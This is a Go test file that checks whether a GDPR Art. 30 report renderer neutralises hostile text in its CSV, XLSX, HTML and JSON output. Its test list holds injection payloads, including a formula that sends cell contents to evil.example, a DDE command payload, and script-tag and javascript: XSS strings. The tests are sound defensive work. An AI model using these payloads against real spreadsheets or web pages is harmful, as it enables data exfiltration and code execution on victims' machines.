package render_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/recital/recital/inventory"
	"github.com/recital/recital/inventory/ropa"
	"github.com/recital/recital/inventory/ropa/render"
)

// attacks are names that a careless reader would run.
func attacks() []string {
	return []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		`+cmd|' /C calc'!A0`,
		"\t=1+1",
		"  =1+1",
		"\u200b=1+1",
		"\ufeff=1+1",
		"＝1+1",
		"＠SUM(1)",
		"-2+3",
		"@SUM(1)",
		"harmless\r\n=1+1",
		"a,b;=1+1\"",
		"\x00=1+1",
		`</script><script>alert(1)</script>`,
		`" onmouseover="alert(1)`,
		`javascript:alert(1)`,
		"_x003D_1+1",
	}
}

func TestCSVIsInert(t *testing.T) {
	formula := regexp.MustCompile(`^[\s\p{Cf}]*[=+\-@＝＋－＠]`)
	for _, attack := range attacks() {
		text := rendered(t, "csv", attackedReport(t, attack), render.Options{})
		rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", attack, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				for _, line := range strings.Split(cell, "\n") {
					if formula.MatchString(line) || strings.ContainsAny(line, "\x00\r") {
						t.Errorf("%q came out as %q", attack, line)
					}
				}
			}
		}
		if bytes.Contains(bytes.ReplaceAll(text, []byte("\r\n"), nil), []byte("\n")) {
			t.Errorf("%q: a line does not end with CR LF", attack)
		}
	}
}

func TestRawIsAsDeclared(t *testing.T) {
	const attack = `=HYPERLINK("http://evil.example")`
	rows, err := csv.NewReader(bytes.NewReader(rendered(t, "csv", attackedReport(t, attack), render.Options{Raw: true}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if rows[0][0] != "activity.name" || rows[1][0] != attack {
		t.Errorf("got %q under %q, want the key and the cell as declared", rows[1][0], rows[0][0])
	}
}

func TestXLSXIsInert(t *testing.T) {
	for _, attack := range attacks() {
		book := readXLSX(t, rendered(t, "xlsx", attackedReport(t, attack), render.Options{}))
		for name, sheet := range book.sheets {
			for _, row := range sheet.Rows {
				for _, c := range row.Cells {
					if c.Type != "inlineStr" || c.Formula != nil || c.Value != nil || !book.styles[c.Style].QuotePrefix {
						t.Fatalf("%q: %s!%s is not plain text", attack, name, c.Ref)
					}
				}
			}
		}
		register := book.sheets["Register"]
		want := strings.ReplaceAll(strings.ReplaceAll(attack, "\r", " "), "\n", " ")
		if got := unescapeX(register.Rows[1].Cells[0].Text); strings.TrimSpace(strings.ReplaceAll(want, "\x00", "")) != strings.TrimSpace(strings.ReplaceAll(got, "\n", "  ")) {
			t.Errorf("%q came out as %q", attack, got)
		}
	}
}

// TestHTMLIsInert looks for tags and attributes that the renderer does not
// write, whatever the text is.
func TestHTMLIsInert(t *testing.T) {
	tag := regexp.MustCompile(`<(/?[a-zA-Z!]\w*)((?:\s[^<>]*)?)>`)
	attribute := regexp.MustCompile(`\s([a-z-]+)="[^"]*"`)
	allowed := map[string]bool{"br": true}
	for _, m := range tag.FindAllSubmatch(rendered(t, "html", attackedReport(t, "plain"), render.Options{}), -1) {
		allowed[string(m[1])] = true
		for _, a := range attribute.FindAllSubmatch(m[2], -1) {
			allowed[string(a[1])+"="] = true
		}
	}
	for _, attack := range attacks() {
		text := rendered(t, "html", attackedReport(t, attack), render.Options{})
		for _, m := range tag.FindAllSubmatch(text, -1) {
			if !allowed[string(m[1])] || string(m[1]) == "script" {
				t.Errorf("%q made a tag %s", attack, m[0])
			}
			for _, a := range attribute.FindAllSubmatch(m[2], -1) {
				if !allowed[string(a[1])+"="] {
					t.Errorf("%q made an attribute %s", attack, a[0])
				}
			}
		}
		if bytes.Contains(text, []byte(`href="javascript:`)) {
			t.Errorf("%q made a link", attack)
		}
	}
}

func TestJSONIsInert(t *testing.T) {
	for _, format := range []string{"json", "jsonld"} {
		for _, attack := range attacks() {
			text := rendered(t, format, attackedReport(t, attack), render.Options{})
			if !json.Valid(text) || bytes.ContainsAny(text, "<>&\u2028\u2029") {
				t.Errorf("%s: %q is not valid JSON that may stand in a page", format, attack)
			}
			if bytes.Contains(text, []byte(`"@id":"javascript:`)) {
				t.Errorf("%s: %q made a link", format, attack)
			}
		}
	}
}

// TestLinksAreLinks holds that a page links to https, http and mailto alone,
// also from an inventory that was not checked.
func TestLinksAreLinks(t *testing.T) {
	for _, r := range []string{"javascript:alert(1)", "data:text/html,x", "//evil.example", "vbscript:x"} {
		if err := inventory.URL(r).Valid(); err == nil {
			t.Errorf("%q is let in", r)
		}
	}
}

// attackedReport is a report with the attack wherever text can stand: in the
// inventory where it lets such text in, and in the cells in any case.
func attackedReport(t *testing.T, attack string) ropa.Report {
	t.Helper()
	name := strings.Join(strings.Fields(strings.Map(func(r rune) rune {
		if r < 0x20 {
			return ' '
		}
		return r
	}, attack)), " ")
	r := report(t, small(t, name, name), ropa.Art30)
	r.Cover.Title = attack
	for i := range r.Cover.Fields {
		r.Cover.Fields[i].Label = attack
		r.Cover.Fields[i].Cell = ropa.Cell{Items: []ropa.Item{{Text: attack}}}
	}
	r.Columns = append([]ropa.Column{{Key: "activity.name", Title: attack, Article: "Art. 30"}}, r.Columns...)
	rows := r.Rows
	r.Rows = func(yield func(ropa.Row) bool) {
		for row := range rows {
			item := ropa.Item{Text: attack, Clauses: row.Activity.Citations()}
			row.Cells = append([]ropa.Cell{{Items: []ropa.Item{item}}}, row.Cells...)
			if !yield(row) {
				return
			}
		}
	}
	return r
}
